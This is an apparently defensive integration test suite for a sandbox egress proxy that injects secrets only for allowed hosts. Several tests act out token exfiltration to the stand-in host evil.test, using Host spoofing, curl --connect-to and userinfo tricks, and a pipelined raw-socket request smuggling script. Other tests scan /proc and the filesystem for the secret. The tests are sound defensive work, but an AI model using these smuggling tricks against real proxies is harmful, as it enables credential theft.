import { createHash } from 'node:crypto';
import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';

import type { CreateOptions, LifecycleEvent, Sandbox, SandboxManager } from '../../src/index.js';
import { startInternet, type Internet } from '../fixtures/internet.js';
import { dockerClient, eventually, newOwner, removeAll, RUNTIMES, testManager, withNetwork } from '../fixtures/run.js';

const VALUE = 'ghp_RealValueOf-the_Token.1234567890';
/** Finds the value, and is not what it finds: it is said in the sandbox. */
const PATTERN = 'ghp_Real[V]alueOf';
const OTHER_VALUE = 'glpat-AnotherValue-0987654321';
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const basic = (user: string, password: string) => `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;

const docker = dockerClient();
const logged: unknown[] = [];
const log = Object.fromEntries(
  ['debug', 'info', 'warn', 'error'].map((level) => [level, (...entry: unknown[]) => void logged.push(entry)]),
) as never;

let internet: Internet;
let manager: SandboxManager;
let sandbox: Sandbox;
const events: LifecycleEvent[] = [];

const HTTPS = ['index.test', 'registry.test', 'git.test', '*.cdn.test'];
const SECRETS = {
  PLAIN_TOKEN: { value: VALUE, hosts: ['index.test:80', '*.cdn.test:80'] },
  TLS_TOKEN: { value: VALUE, hosts: HTTPS, interceptTls: true },
};

function settings() {
  return {
    dns: [internet.address],
    network: internet.network,
    allowedDomains: ['*', '*:8080'],
    authorities: [internet.ca],
  };
}

function make(by: SandboxManager, more: CreateOptions = {}): Promise<Sandbox> {
  const egress = { allow: [...HTTPS, 'evil.test', 'index.test:8080'] };
  return by.create({ memoryLimit: '512m', network: { egress }, secrets: SECRETS, ...more });
}

beforeAll(async () => {
  internet = await startInternet();
  manager = await testManager({ egress: settings(), log });
  const watching = new AbortController();
  closing.push(() => watching.abort());
  void (async () => {
    for await (const event of manager.events({ signal: watching.signal })) events.push(event);
  })().catch(() => {});
  sandbox = await make(manager);
});
const closing: (() => void)[] = [];
afterAll(async () => {
  for (const close of closing) close();
  if (manager !== undefined) await removeAll(manager);
  await internet?.stop();
});

async function sh(script: string, from = sandbox) {
  const { exitCode, stdout, stderr } = await from.exec(script, { timeoutMs: 60_000 });
  return { exitCode, stdout, text: `${stdout}${stderr}` };
}

/** What a server has got of a header, by its hash. */
async function cameAs(script: string, from = sandbox): Promise<string> {
  const { stdout, text } = await sh(script, from);
  expect(text).not.toMatch(PATTERN);
  const { digests } = JSON.parse(stdout) as { digests: Record<string, string> };
  return digests['x-key'] ?? digests['authorization'] ?? '';
}

describe('a secret', () => {
  it('is a placeholder in the sandbox, which nobody else has', async () => {
    const { stdout } = await sandbox.exec('echo $PLAIN_TOKEN $TLS_TOKEN');
    expect(stdout).toMatch(/^sandyard-secret-[a-z0-9]{32} sandyard-secret-[a-z0-9]{32}\n$/);
    const other = await make(manager, { memoryLimit: '64m' });
    onTestFinished(() => other.destroy());
    const all = `${stdout.trim()} ${(await other.exec('echo $PLAIN_TOKEN $TLS_TOKEN')).stdout.trim()}`.split(' ');
    expect(new Set(all).size).toBe(4);
  });

  it.each([
    ['over plain HTTP', 'curl -s http://index.test/ -H "X-Key: $PLAIN_TOKEN"', VALUE],
    ['to what a wildcard covers', 'curl -s http://a.b.cdn.test/ -H "X-Key: $PLAIN_TOKEN"', VALUE],
    ['among other words', 'curl -s http://index.test/ -H "Authorization: Bearer $PLAIN_TOKEN"', `Bearer ${VALUE}`],
    ['in Basic', 'curl -s http://index.test/ -u "me:$PLAIN_TOKEN"', basic('me', VALUE)],
    ['over TLS', 'curl -s https://index.test/ -H "X-Key: $TLS_TOKEN"', VALUE],
    ['over TLS in Basic', 'curl -s https://a.cdn.test/ -u "$TLS_TOKEN:x"', basic(VALUE, 'x')],
  ])('arrives at its host %s', async (_what, script, header) => {
    expect(await cameAs(script)).toBe(sha256(header));
  });

  it.each(RUNTIMES)('arrives from %s', async (tested) => {
    const from = await make(manager, { runtime: withNetwork(tested) });
    onTestFinished(() => from.destroy());
    expect(await cameAs('curl -s http://index.test/ -H "X-Key: $PLAIN_TOKEN"', from)).toBe(sha256(VALUE));
    expect(await cameAs('curl -s https://index.test/ -H "X-Key: $TLS_TOKEN"', from)).toBe(sha256(VALUE));
    expect(await cameAs('curl -sk https://evil.test/ -H "X-Key: $TLS_TOKEN"', from)).not.toBe(sha256(VALUE));
  });

  it.each([
    ['another host', 'curl -s http://evil.test/', 'PLAIN_TOKEN'],
    ['another host that says it is the one', "curl -s http://evil.test/ -H 'Host: index.test'", 'PLAIN_TOKEN'],
    ['another port of its host', 'curl -s http://index.test:8080/', 'PLAIN_TOKEN'],
    ['another host over TLS', 'curl -sk https://evil.test/', 'TLS_TOKEN'],
    ['another host over TLS that says it is the one', "curl -sk https://evil.test/ -H 'Host: index.test'", 'TLS_TOKEN'],
    ['its host without TLS, where it goes over that', 'curl -s http://index.test/', 'TLS_TOKEN'],
    ['its host over TLS, where it goes without', 'curl -s https://index.test/', 'PLAIN_TOKEN'],
    ['a host that the certificate has not', 'curl -sk https://a.b.cdn.test/', 'TLS_TOKEN'],
  ])('arrives as its placeholder at %s', async (_what, script, name) => {
    const { stdout } = await sandbox.exec(`printf %s $${name}`);
    expect(await cameAs(`${script} -H "X-Key: $${name}"`)).toBe(sha256(stdout));
  });

  it('is covered in what its host repeats', async () => {
    for (const [url, name] of [
      ['http://index.test/', 'PLAIN_TOKEN'],
      ['https://index.test/', 'TLS_TOKEN'],
    ]) {
      const { text } = await sh(`curl -si ${url} -H "X-Key: $${name}" -u "me:$${name}"`);
      expect(text).toContain(`"x-key":"${'*'.repeat(VALUE.length)}"`);
      expect(text).not.toMatch(PATTERN);
      expect(text).not.toContain(basic('me', VALUE).slice(6));
    }
  });

  it('does not make the proxy take a host for the one that it is not', async () => {
    const tricks = [
      'curl -sS --connect-to evil.test:443:index.test:443 https://evil.test/ -H "X-Key: $TLS_TOKEN"',
      'curl -sS https://index.test/ --http2-prior-knowledge -H "X-Key: $TLS_TOKEN"',
      'curl -sS https://index.test@evil.test/ -k -o /dev/null -w "%{http_code}" -H "X-Key: $TLS_TOKEN"',
    ];
    for (const trick of tricks) expect((await sh(trick)).text).not.toMatch(PATTERN);
    const smuggled = `import os, socket, ssl
raw = socket.create_connection(('egress-proxy', 3128), 5)
raw.sendall(b'CONNECT index.test:443 HTTP/1.1\\r\\n\\r\\n')
raw.recv(4096)
tls = ssl.create_default_context().wrap_socket(raw, server_hostname='index.test')
token = os.environ['TLS_TOKEN']
one = 'GET /%s HTTP/1.1\\r\\nHost: evil.test\\r\\nX-Key: ' + token + '\\r\\n\\r\\n'
tls.sendall((one % 'one' + one % 'two').encode())
got = b''
while True:
    part = tls.recv(65536)
    if not part: break
    got += part
print(got.decode())`;
    const { stdout, stderr } = await sandbox.exec(['python3', '-c', smuggled]);
    expect(stdout.match(/^HTTP\/1\.1 /gm), stderr).toHaveLength(1);
    expect(stdout).toContain('"host":"index.test"');
    expect(stdout).toContain(`"x-key":"${sha256(VALUE)}"`);
  });
});

describe('over TLS that is opened', () => {
  const bearer = sha256(`Bearer ${VALUE}`);
  it.each([
    ['curl', `curl -sf https://index.test/locked/${bearer}/x -H "Authorization: Bearer $TLS_TOKEN"`],
    [
      'git',
      `cd /tmp && rm -rf repo && git clone https://me:$TLS_TOKEN@git.test/locked/${sha256(basic('me', VALUE))}/repo.git && cat repo/README`,
    ],
    [
      'pip',
      `cd /tmp && pip download --no-deps --index-url https://me:$TLS_TOKEN@index.test/locked/${sha256(basic('me', VALUE))}/simple/ hello-egress && ls *.whl`,
    ],
    [
      'npm',
      `rm -rf /tmp/n && mkdir -p /tmp/n && cd /tmp/n && echo '//registry.test/locked/${bearer}/:_authToken=\${TLS_TOKEN}' > .npmrc && npm install --registry https://registry.test/locked/${bearer}/ hello-egress && node -p "require('hello-egress')"`,
    ],
    [
      'fetch in Node.js',
      `node -e "fetch('https://index.test/locked/${bearer}/x', { headers: { authorization: 'Bearer ' + process.env.TLS_TOKEN } }).then((r) => process.exit(r.ok ? 0 : 1), (e) => { console.error(e); process.exit(2); })"`,
    ],
    [
      'urllib in Python',
      `python3 -c "import os, urllib.request as u; print(u.urlopen(u.Request('https://index.test/locked/${bearer}/x', headers={'Authorization': 'Bearer ' + os.environ['TLS_TOKEN']})).status)"`,
    ],
    [
      'a body of a megabyte',
      'head -c 1000000 /dev/zero | curl -sf --data-binary @- https://index.test/ | grep 1000000',
    ],
  ])('%s just works', async (_what, script) => {
    const { exitCode, text } = await sh(script);
    expect(exitCode, text).toBe(0);
    expect(text).not.toMatch(PATTERN);
  });

  it('the certificate is of an authority for this sandbox alone, and for these hosts alone', async () => {
    const { stdout } = await sh('cat /home/sandbox/.sandyard/authority.pem; ls -l /home/sandbox/.sandyard');
    expect(stdout.match(/BEGIN/g)).toHaveLength(1);
    expect(stdout).not.toContain('KEY');
    expect(stdout.match(/-r--r--r--/g)).toHaveLength(2);
    const { text } = await sh('curl -sv https://index.test/ 2>&1 | grep -i issuer');
    expect(text).toContain(`Sandyard sandbox ${sandbox.id}`);
    expect((await sandbox.egress.log()).entries.at(-1)).toMatchObject({
      decision: 'allowed',
      detail: expect.stringContaining('opened') as unknown,
    });
  });

  it('all other TLS is untouched: its certificate is its own', async () => {
    const { exitCode } = await sh('curl -s https://evil.test/');
    expect(exitCode).toBe(60);
    expect((await sh('curl -svk https://evil.test/ 2>&1 | grep -i issuer')).text).toContain('Test authority');
  });

  it('a host that the proxy can not verify gets nothing', async () => {
    const strict = await testManager({ egress: { ...settings(), authorities: [] } });
    onTestFinished(() => removeAll(strict));
    const one = await make(strict);
    const { text } = await sh('curl -si https://index.test/ -H "X-Key: $TLS_TOKEN"', one);
    expect(text).toMatch(/502 Bad Gateway[\s\S]*not_trusted/);
    expect((await one.egress.log()).entries.at(-1)).toMatchObject({ reason: 'not_trusted', decision: 'denied' });
  });
});

describe('the value of a secret', () => {
  it('is nowhere in the sandbox', async () => {
    const script = `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c '${PATTERN}'
      grep -rlsE '${PATTERN}' / --exclude-dir=proc --exclude-dir=sys | head
      env | grep '${PATTERN}'; true`;
    expect((await sh(script)).stdout).toBe('0\n');
  });

  it('is in nothing that is told of it', async () => {
    const description = await sandbox.inspect();
    expect(description.secrets).toEqual({
      PLAIN_TOKEN: { hosts: ['index.test:80', '*.cdn.test:80'], interceptTls: false },
      TLS_TOKEN: { hosts: HTTPS, interceptTls: true },
    });
    const containers = await docker.listContainers({ all: true });
    const own = containers.filter(
      ({ Names: [name = ''] }) => name.includes(sandbox.id) || name.includes(manager.owner),
    );
    expect(own).toHaveLength(2);
    const inspected = await Promise.all(own.map(({ Id }) => docker.getContainer(Id).inspect()));
    const top = await Promise.all(own.map(({ Id }) => docker.getContainer(Id).top()));
    const about = [description, await manager.list(), events, logged, inspected, top];
    const told = [...about, await sandbox.egress.get(), await sandbox.egress.log(), await sandbox.secrets.list()];
    for (const each of told) {
      expect(inspect(each, { depth: 20, maxArrayLength: null, maxStringLength: null })).not.toMatch(PATTERN);
      expect(JSON.stringify(each)).not.toMatch(PATTERN);
    }
    const { checks } = await sandbox.attest();
    expect(checks.filter(({ status }) => status !== 'ok')).toEqual([]);
    expect(events.length).toBeGreaterThan(0);
    expect(logged.length).toBeGreaterThan(0);
  });

  it('is in no error', async () => {
    const value = `${VALUE}\n`;
    const failing = [
      make(manager, { secrets: { X: { value, hosts: ['index.test'] } } }),
      make(manager, { secrets: { X: { value: VALUE, hosts: ['*'] } } }),
      make(manager, { secrets: { X: { value: VALUE, hosts: ['elsewhere.test'] } } }),
      make(manager, { network: 'none' }),
      make(manager, { runtime: 'none-such' }),
      make(manager, { image: 'none-such:latest' }),
      sandbox.secrets.set('NONE_SUCH', { value: VALUE }),
      sandbox.secrets.set('TLS_TOKEN', { value }),
    ];
    for (const result of await Promise.allSettled(failing)) {
      expect(result.status).toBe('rejected');
      if (result.status === 'rejected') expect(inspect(result.reason, { depth: 20 })).not.toMatch(PATTERN);
    }
  });

  it('is on the volume of the proxy, for its user alone, and no key of an authority is', async () => {
    const found = await docker.listContainers({ filters: { label: [`sandyard.egress=${manager.owner}`] } });
    const run = async (script: string, user: string) => {
      const exec = await docker.getContainer(found[0]?.Id ?? '').exec({
        Cmd: ['/bin/sh', '-c', script],
        User: user,
        AttachStdout: true,
        AttachStderr: true,
        Tty: true,
      });
      const stream = await exec.start({ Tty: true });
      const parts: Buffer[] = [];
      for await (const part of stream) parts.push(part as Buffer);
      return Buffer.concat(parts).toString().replaceAll('\r', '');
    };
    expect(await run("stat -c '%a %u' /var/lib/egress/secrets/*.json | sort -u", '1000')).toBe('600 1000\n');
    expect(await run(`cat /var/lib/egress/secrets/* 2>&1 | grep -c '${PATTERN}'`, '65534')).toBe('0\n');
    const keys = await run("cat /var/lib/egress/*/* | grep -o 'BEGIN [A-Z ]*KEY' | sort | uniq -c", '1000');
    expect(keys.trim()).toMatch(/^\d+ BEGIN PRIVATE KEY$/);
  });
});

describe('secrets', () => {
  it('are changed and removed while the sandbox runs, by any manager of its owner', async () => {
    const owner = newOwner();
    const first = await testManager({ owner, egress: settings() });
    onTestFinished(() => removeAll(first));
    const one = await make(first);
    const second = await testManager({ owner, egress: settings() });
    onTestFinished(() => second.close());
    const same = await second.get(one.id);
    const plain = () => cameAs('curl -s http://index.test/ -H "X-Key: $PLAIN_TOKEN"', one);
    const opened = () => cameAs('curl -sk https://index.test/ -H "X-Key: $TLS_TOKEN"', one);
    expect([await plain(), await opened()]).toEqual([sha256(VALUE), sha256(VALUE)]);
    await Promise.all([
      same.secrets.set('PLAIN_TOKEN', { value: OTHER_VALUE }),
      one.secrets.set('TLS_TOKEN', { value: OTHER_VALUE }),
    ]);
    expect([await plain(), await opened()]).toEqual([sha256(OTHER_VALUE), sha256(OTHER_VALUE)]);
    await one.egress.set({ maxConnections: 10 });
    expect(await plain()).toBe(sha256(OTHER_VALUE));
    await same.secrets.remove('TLS_TOKEN');
    await same.secrets.remove('TLS_TOKEN');
    expect(Object.keys(await one.secrets.list())).toEqual(['PLAIN_TOKEN']);
    const { stdout } = await one.exec('printf %s $TLS_TOKEN');
    expect(await opened()).toBe(sha256(stdout));
    await expect(one.secrets.set('TLS_TOKEN', { value: VALUE })).rejects.toMatchObject({
      code: 'validation_failed',
      hint: expect.stringContaining('PLAIN_TOKEN') as unknown,
    });
  });

  it('outlive the proxy, a stop of the sandbox and the manager', async () => {
    const owner = newOwner();
    const first = await testManager({ owner, egress: settings() });
    const { id } = await make(first);
    await first.close();
    const proxies = () => docker.listContainers({ filters: { label: [`sandyard.egress=${owner}`] } });
    await docker.getContainer((await proxies())[0]?.Id ?? '').kill();
    const again = await testManager({ owner, egress: settings() });
    onTestFinished(() => removeAll(again));
    const one = await again.get(id);
    await one.restart({ graceMs: 0 });
    await eventually(async () => ((await sh('curl -s http://index.test/', one)).exitCode === 0 ? true : undefined));
    expect(await cameAs('curl -s http://index.test/ -H "X-Key: $PLAIN_TOKEN"', one)).toBe(sha256(VALUE));
    expect(await cameAs('curl -s https://index.test/ -H "X-Key: $TLS_TOKEN"', one)).toBe(sha256(VALUE));
  });

  it('are gone from the volume with their sandbox, also where another manager destroys it', async () => {
    const owner = newOwner();
    const first = await testManager({ owner, egress: settings() });
    onTestFinished(() => removeAll(first));
    await make(first, { memoryLimit: '64m', secrets: {} });
    const { id } = await make(first, { memoryLimit: '64m' });
    const second = await testManager({ owner, egress: settings() });
    await second.destroy(id);
    await second.close();
    const [proxy] = await docker.listContainers({ filters: { label: [`sandyard.egress=${owner}`] } });
    const archive = await docker.getContainer(proxy?.Id ?? '').getArchive({ path: '/var/lib/egress' });
    const parts: Buffer[] = [];
    for await (const part of archive) parts.push(part as Buffer);
    const kept = Buffer.concat(parts).toString('latin1');
    expect(kept).toContain('"allow"');
    expect(kept).not.toMatch(PATTERN);
  });

  it('are put in also where a warm sandbox has the same network, and leave that one to others', async () => {
    const network = { egress: { allow: [...HTTPS] } };
    const pool = { size: 1, memoryLimit: '64m', network } as const;
    const keeping = await testManager({ egress: settings(), pool });
    onTestFinished(() => removeAll(keeping));
    const isWarm = async () => ((await keeping.gauges()).pool.ready === 1 ? true : undefined);
    await eventually(isWarm);
    const one = await make(keeping, { memoryLimit: '64m', network });
    expect(await cameAs('curl -s http://index.test/ -H "X-Key: $PLAIN_TOKEN"', one)).toBe(sha256(VALUE));
    expect(await isWarm()).toBe(true);
  });

  it('work with the profile strict, and with another user', async () => {
    for (const more of [{ profile: 'strict' }, { user: '2000:2000' }] as const) {
      const one = await make(manager, more);
      expect(await cameAs('curl -s https://index.test/ -H "X-Key: $TLS_TOKEN"', one)).toBe(sha256(VALUE));
      await one.destroy();
    }
  });
});
